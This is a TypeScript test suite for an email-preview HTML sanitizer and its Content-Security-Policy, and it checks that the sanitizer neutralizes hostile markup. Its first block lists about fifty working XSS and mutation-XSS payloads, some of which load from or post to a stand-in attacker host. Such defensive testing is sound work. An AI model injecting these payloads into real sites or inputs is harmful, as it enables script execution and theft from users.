import { describe, expect, it } from 'vitest';
import { previewDocument, previewPolicy } from './preview-document.ts';

/** The part of the document that came from the email. */
function bodyOf(html: string, inline = new Map<string, string>()): string {
  const document = previewDocument(html, (contentId) => inline.get(contentId) ?? null);
  return /<body>([\s\S]*)<\/body><\/html>$/.exec(document)?.[1] ?? '';
}

describe('an attack comes to nothing', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    '<img src="javascript:alert(1)">',
    '<body onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<style></style><img src=x onerror=alert(1)>',
    '<style><a title="</style><img src=x onerror=alert(1)>"></style>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><script>alert(1)</script>"></title>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code=x></applet>',
    '<form action="https://evil.example"><input name=p><button formaction="https://evil.example">Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<div style="x" onclick="alert(1)" onmouseover=alert(1)>x</div>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<table background="javascript:alert(1)">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '</body></html><script>alert(1)</script>',
    '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
    '<p id="getElementById" name="cookie">clobber</p>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  ])('%s', (html) => {
    for (const { name, attributes } of tagsOf(bodyOf(html))) {
      expect(allowedTags).toContain(name);
      for (const [attribute, value] of attributes) {
        expect(attribute).not.toMatch(/^on|^(srcdoc|formaction|action|background|id|name|ping|srcset)$/);
        if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/);
        if (attribute === 'src') expect(value).toMatch(/^(https?:\/\/|data:image\/|x|`)/);
      }
    }
  });
});

describe('an image', () => {
  const inline = new Map([['logo@mail', 'https://outbox.example/v1/inline/token']]);

  it.each(['cid:logo@mail', 'CID:logo@mail'])('inside the email is shown through its own link: %s', (src) => {
    expect(bodyOf(`<img src="${src}" alt="Logo">`, inline)).toBe(
      '<img alt="Logo" src="https://outbox.example/v1/inline/token" />',
    );
  });

  it.each(['cid:unknown', 'cid:', 'cid:logo', 'cid:constructor'])(
    'that is not there loads nothing: %s',
    (src) => {
      expect(bodyOf(`<img src="${src}">`, inline)).not.toContain('src=');
    },
  );

  it('elsewhere keeps its address: the policy decides whether it loads', () => {
    expect(bodyOf('<img src="https://cdn.example/a.png">')).toContain('src="https://cdn.example/a.png"');
  });
});

it('opens links in a page of their own that learns nothing of this one', () => {
  const links = bodyOf(
    '<a href="https://a.example" target="_top" rel="opener">A</a><a href="mailto:b@c.example">B</a>',
  );
  for (const link of links.match(/<a [^>]*>/g) ?? []) {
    expect(link).toContain('target="_blank"');
    expect(link).toContain('rel="noopener noreferrer nofollow"');
  }
  expect(links.match(/<a /g)).toHaveLength(2);
  expect(links).toContain('href="https://a.example"');
});

it('shows a long email whole, tags left open and all', { timeout: 30_000 }, () => {
  const html = '<p>one<br>two<li>three<div>four</div>'.repeat(20_000);
  expect(bodyOf(html).match(/four/g)).toHaveLength(20_000);
});

it('keeps what makes an ordinary email readable', () => {
  const html =
    '<h1>Été</h1><p style="color:red">A &amp; B</p><table width="600" bgcolor="#fff"><tr><td colspan="2" align="center">' +
    '<font face="Arial" size="2">x</font></td></tr></table><ul><li>1</li></ul><hr /><center>c</center>';
  expect(bodyOf(html)).toBe(html);
});

it.each([
  ['nested without end', '<div>'.repeat(200_000)],
  ['nested in lists without end', '<ul><li>'.repeat(200_000)],
  ['nested in tables without end', '<table><tr><td>'.repeat(100_000)],
  ['closed without a beginning', '</div>'.repeat(200_000)],
  ['never closed', '<a href="'.repeat(20_000)],
  ['empty', ''],
  ['only NUL', '\u0000'.repeat(1000)],
])('answers quickly when the HTML is %s', (_, html) => {
  const start = performance.now();
  expect(previewDocument(html, () => null)).toMatch(/^<!doctype html>/);
  expect(performance.now() - start).toBeLessThan(5000);
});

describe('the policy', () => {
  const directive = (policy: string, name: string) =>
    policy.split('; ').find((it) => it.split(' ')[0] === name);
  const policy = (images: boolean) =>
    previewPolicy('https://outbox.example', ['https://a.example', 'https://b.example'], images);

  it('lets nothing run, load or send, and only the portal frame it', () => {
    expect(directive(policy(false), 'default-src')).toBe("default-src 'none'");
    expect(directive(policy(false), 'sandbox')).toBe('sandbox allow-popups allow-popups-to-escape-sandbox');
    expect(directive(policy(false), 'form-action')).toBe("form-action 'none'");
    expect(directive(policy(false), 'base-uri')).toBe("base-uri 'none'");
    expect(directive(policy(false), 'frame-ancestors')).toBe(
      'frame-ancestors https://a.example https://b.example',
    );
    expect(policy(false)).not.toContain('script-src');
  });

  it('loads images from elsewhere only when a person has asked for them', () => {
    expect(directive(policy(false), 'img-src')).toBe("img-src data: 'self' https://outbox.example");
    expect(directive(policy(true), 'img-src')).toBe(
      "img-src data: 'self' https://outbox.example https: http:",
    );
  });
});

const allowedTags = 'a img p div table tbody tr td style details summary'.split(' ');

interface Tag {
  name: string;
  attributes: [name: string, value: string][];
}

/** The start tags of HTML as a browser reads it: whatever stands between style tags is text to it, and so are comments. */
function tagsOf(html: string): Tag[] {
  const withoutStyles = html.replace(/(<style\b[^>]*>)[\s\S]*?(<\/style\s*>|$)/gi, '$1');
  expect(withoutStyles).not.toMatch(/<[!?]/);
  return [...withoutStyles.matchAll(/<([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)/gi)].map(
    ([, name, rest]) => ({
      name: name!.toLowerCase(),
      attributes: [...rest!.matchAll(/([^\s=/"']+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|(\S+)))?/g)].map(
        ([, attribute, ...values]): [string, string] => [
          attribute!.toLowerCase(),
          values.find((it) => it !== undefined) ?? '',
        ],
      ),
    }),
  );
}
